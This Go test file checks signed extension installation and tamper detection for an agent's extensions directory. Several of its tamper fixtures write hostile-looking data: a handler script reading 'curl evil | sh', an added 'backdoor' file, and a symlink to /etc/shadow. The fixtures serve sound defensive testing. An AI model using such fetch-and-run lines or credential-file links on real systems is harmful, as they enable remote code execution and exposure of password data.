package extensions

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/arcagent/arcagent/errcode"
	"github.com/arcagent/arcagent/signing"
)

func installFixture(t *testing.T) (*fixture, *InstallResult, string) {
	t.Helper()
	f := newFixture(t)
	extDir := filepath.Join(f.dir, "var/lib/waagent")
	res, err := Install(context.Background(), InstallOptions{Package: f.pkgPath, Trust: f.store, Expect: signing.Expectation{Publisher: "Contoso.Monitoring", Type: "StatusReporter", Version: "1.0.0"}, ExtensionsDir: extDir})
	if err != nil {
		t.Fatal(err)
	}
	return f, res, extDir
}

func TestInstallWritesTreeAndRecord(t *testing.T) {
	f, res, extDir := installFixture(t)
	if res.Dir != filepath.Join(extDir, "Contoso.Monitoring.StatusReporter-1.0.0") {
		t.Fatalf("dir %s", res.Dir)
	}
	fi, err := os.Stat(res.Dir)
	if err != nil || fi.Mode().Perm() != 0o700 {
		t.Fatalf("tree mode %v err %v", fi.Mode(), err)
	}
	if fi, _ := os.Stat(filepath.Join(res.Dir, "bin/handler.sh")); fi.Mode().Perm() != 0o755 {
		t.Fatalf("handler mode %v", fi.Mode())
	}
	if fi, _ := os.Stat(filepath.Join(res.Dir, "README.txt")); fi.Mode().Perm() != 0o644 {
		t.Fatalf("readme mode %v", fi.Mode())
	}
	rec, env, err := ReadInstallRecord(extDir, "Contoso.Monitoring.StatusReporter-1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	if string(env) != string(f.envelope) {
		t.Fatal("recorded envelope differs from the one verified")
	}
	if rec.Signer != "contoso" || rec.Package != testPkg || len(rec.Files) != 4 {
		t.Fatalf("record %+v", rec)
	}
	names, err := ListInstalled(extDir)
	if err != nil || len(names) != 1 || names[0] != rec.Name {
		t.Fatalf("ListInstalled %v %v", names, err)
	}
	// Nothing left in staging.
	ents, _ := os.ReadDir(filepath.Join(extDir, RecordsDirName))
	for _, e := range ents {
		if e.Name() != rec.Name && filepath.Ext(e.Name()) != ".lock" {
			t.Fatalf("left over: %s", e.Name())
		}
	}
	// A second install needs Replace.
	_, err = Install(context.Background(), InstallOptions{Package: f.pkgPath, Trust: f.store, ExtensionsDir: extDir})
	if !errors.Is(err, CodeAlreadyInstalled) {
		t.Fatalf("second install: %v", err)
	}
	if _, err := Install(context.Background(), InstallOptions{Package: f.pkgPath, Trust: f.store, ExtensionsDir: extDir, Replace: true}); err != nil {
		t.Fatalf("replace: %v", err)
	}
}

func TestInstallRefusesBeforeExtracting(t *testing.T) {
	f := newFixture(t)
	extDir := filepath.Join(f.dir, "ext")
	data, _ := os.ReadFile(f.pkgPath)
	data[40] ^= 0xff
	os.WriteFile(f.pkgPath, data, 0o644)
	_, err := Install(context.Background(), InstallOptions{Package: f.pkgPath, Trust: f.store, ExtensionsDir: extDir})
	if !errors.Is(err, signing.CodeDigestMismatch) {
		t.Fatalf("err = %v", err)
	}
	names, _ := ListInstalled(extDir)
	if len(names) != 0 {
		t.Fatalf("installed %v", names)
	}
}

func TestCheckTreeDetectsTampering(t *testing.T) {
	ctx := context.Background()
	tests := []struct {
		name   string
		tamper func(t *testing.T, dir string)
		want   []Change
	}{
		{"untouched", func(*testing.T, string) {}, nil},
		{"runtime files ignored", func(t *testing.T, dir string) {
			os.MkdirAll(filepath.Join(dir, "status"), 0o755)
			os.WriteFile(filepath.Join(dir, "status/0.status"), []byte("{}"), 0o644)
			os.MkdirAll(filepath.Join(dir, "config"), 0o755)
			os.WriteFile(filepath.Join(dir, "config/0.settings"), []byte("{}"), 0o600)
			os.WriteFile(filepath.Join(dir, "HandlerEnvironment.json"), []byte("[]"), 0o644)
		}, nil},
		{"content changed", func(t *testing.T, dir string) {
			os.WriteFile(filepath.Join(dir, "bin/handler.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
		}, []Change{{Path: "bin/handler.sh", Kind: ChangeModified}}},
		{"same size, other bytes", func(t *testing.T, dir string) {
			os.WriteFile(filepath.Join(dir, "README.txt"), []byte("STATUS REPORTER\n"), 0o644)
		}, []Change{{Path: "README.txt", Kind: ChangeModified}}},
		{"exec bit added", func(t *testing.T, dir string) { os.Chmod(filepath.Join(dir, "README.txt"), 0o755) },
			[]Change{{Path: "README.txt", Kind: ChangeModified}}},
		{"file removed", func(t *testing.T, dir string) { os.Remove(filepath.Join(dir, "README.txt")) },
			[]Change{{Path: "README.txt", Kind: ChangeMissing}}},
		{"file added", func(t *testing.T, dir string) { os.WriteFile(filepath.Join(dir, "bin/backdoor"), []byte("x"), 0o755) },
			[]Change{{Path: "bin/backdoor", Kind: ChangeAdded}}},
		{"file replaced by link", func(t *testing.T, dir string) {
			os.Remove(filepath.Join(dir, "README.txt"))
			os.Symlink("/etc/shadow", filepath.Join(dir, "README.txt"))
		}, []Change{{Path: "README.txt", Kind: ChangeModified}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, res, _ := installFixture(t)
			tc.tamper(t, res.Dir)
			rep, err := CheckTree(ctx, res.Dir)
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Changes) != len(tc.want) {
				t.Fatalf("changes %+v, want %+v", rep.Changes, tc.want)
			}
			for i, w := range tc.want {
				if rep.Changes[i].Path != w.Path || rep.Changes[i].Kind != w.Kind {
					t.Fatalf("change %d = %+v, want %+v", i, rep.Changes[i], w)
				}
			}
			if (rep.Err() == nil) != (len(tc.want) == 0) || rep.Err() != nil && !errors.Is(rep.Err(), CodeTreeTampered) {
				t.Fatalf("Err() = %v", rep.Err())
			}
		})
	}
}

func TestCheckTreeWithoutRecord(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "Contoso.X-1.0")
	os.Mkdir(dir, 0o700)
	if _, err := CheckTree(context.Background(), dir); !errors.Is(err, CodeInstallRecord) {
		t.Fatalf("err = %v", err)
	}
}

func TestCheckInstalled(t *testing.T) {
	ctx := context.Background()
	name := testPkg.Name()
	tests := []struct {
		name      string
		change    func(t *testing.T, f *fixture, extDir string) *signing.TrustStore
		checkTree bool
		valid     bool
		code      string
	}{
		{"valid", func(t *testing.T, f *fixture, _ string) *signing.TrustStore { return f.store }, true, true, ""},
		{"key no longer trusted", func(t *testing.T, f *fixture, _ string) *signing.TrustStore {
			if err := signing.RemoveTrustedKey(ctx, f.trustDir, "contoso", trustOpts()...); err != nil {
				t.Fatal(err)
			}
			s, _ := signing.LoadTrustStore(f.trustDir, trustOpts()...)
			s.Keys = append(s.Keys, mustDirectKey(t, newTestKey(t, signing.AlgEd25519).pubPEM, "other", "Contoso.Monitoring"))
			return s
		}, false, false, string(signing.CodeBadSignature)},
		{"key no longer allowed for the publisher", func(t *testing.T, f *fixture, _ string) *signing.TrustStore {
			f.store.Keys[0].Publishers = []string{"Fabrikam"}
			return f.store
		}, false, false, string(signing.CodePublisherNotAllowed)},
		{"recorded envelope truncated", func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			p := filepath.Join(RecordDir(extDir, name), RecordEnvelope)
			os.WriteFile(p, f.envelope[:20], 0o600)
			return f.store
		}, false, false, string(signing.CodeMalformedEnvelope)},
		{"record digest edited", func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			p := filepath.Join(RecordDir(extDir, name), RecordManifest)
			data, _ := os.ReadFile(p)
			rec, _, _ := ReadInstallRecord(extDir, name)
			data = []byte(replaceOnce(string(data), rec.PackageSHA256, "00"+rec.PackageSHA256[2:]))
			os.WriteFile(p, data, 0o600)
			return f.store
		}, false, false, string(signing.CodeDigestMismatch)},
		{"tree tampered", func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			os.WriteFile(filepath.Join(extDir, name, "bin/handler.sh"), []byte("evil"), 0o755)
			return f.store
		}, true, false, string(CodeTreeTampered)},
		{"record missing", func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			os.RemoveAll(RecordDir(extDir, name))
			return f.store
		}, false, false, string(CodeInstallRecord)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f, _, extDir := installFixture(t)
			store := tc.change(t, f, extDir)
			v := CheckInstalled(ctx, store, extDir, name, tc.checkTree)
			if v.Valid != tc.valid || string(v.Code) != tc.code || v.Reason == "" {
				t.Fatalf("verdict %+v, want valid=%v code=%s", v, tc.valid, tc.code)
			}
			if tc.valid && v.Signer != "contoso" {
				t.Fatalf("signer %q", v.Signer)
			}
		})
	}
}

func mustDirectKey(t *testing.T, pemBytes []byte, name string, publishers ...string) *signing.TrustedKey {
	t.Helper()
	k, err := signing.NewTrustedKey(name, pemBytes, publishers, nil)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func replaceOnce(s, old, new string) string {
	for i := 0; i+len(old) <= len(s); i++ {
		if s[i:i+len(old)] == old {
			return s[:i] + new + s[i+len(old):]
		}
	}
	return s
}

// TestCheck is the decision of `package check`: findings are invalid
// verdicts, a check that cannot be made is an error.
func TestCheck(t *testing.T) {
	ctx := context.Background()
	name := testPkg.Name()
	tests := []struct {
		name     string
		treeOnly bool
		change   func(t *testing.T, f *fixture, extDir string) *signing.TrustStore
		state    string
		code     errcode.Code // of the verdict, or of the error when errClass is set
		errClass error
	}{
		{"intact", false, func(t *testing.T, f *fixture, _ string) *signing.TrustStore { return f.store }, StateOK, "", nil},
		{"intact, tree only", true, func(t *testing.T, f *fixture, _ string) *signing.TrustStore { return nil }, StateOK, "", nil},
		{"tampered", false, func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			os.WriteFile(filepath.Join(extDir, name, "bin/handler.sh"), []byte("evil"), 0o755)
			return f.store
		}, StateTampered, CodeTreeTampered, nil},
		{"tampered, tree only", true, func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			os.Remove(filepath.Join(extDir, name, "README.txt"))
			return nil
		}, StateTampered, CodeTreeTampered, nil},
		{"publisher no longer allowed", false, func(t *testing.T, f *fixture, _ string) *signing.TrustStore {
			f.store.Keys[0].Publishers = []string{"Fabrikam"}
			return f.store
		}, StateInvalid, signing.CodePublisherNotAllowed, nil},
		{"record missing", false, func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			os.RemoveAll(RecordDir(extDir, name))
			return f.store
		}, "", CodeInstallRecord, CodeInstallRecord},
		{"record missing, tree only", true, func(t *testing.T, f *fixture, extDir string) *signing.TrustStore {
			os.RemoveAll(RecordDir(extDir, name))
			return nil
		}, "", CodeInstallRecord, CodeInstallRecord},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f, _, extDir := installFixture(t)
			store := tc.change(t, f, extDir)
			v, err := Check(ctx, CheckOptions{Dir: filepath.Join(extDir, name), Trust: store, TreeOnly: tc.treeOnly})
			if tc.errClass != nil {
				var ce *errcode.Error
				if v != nil || !errors.Is(err, tc.errClass) || !errors.As(err, &ce) || ce.Code != tc.code {
					t.Fatalf("Check = %+v, %v; want an error %s", v, err, tc.code)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if v.State() != tc.state || v.Code != tc.code || v.Name != name || v.Reason == "" {
				t.Fatalf("verdict %+v (state %s), want %s %s", v, v.State(), tc.state, tc.code)
			}
			if v.Valid != (tc.state == StateOK) || (!v.Valid && v.Remedy == "") {
				t.Fatalf("verdict %+v: valid or remedy wrong", v)
			}
		})
	}
}
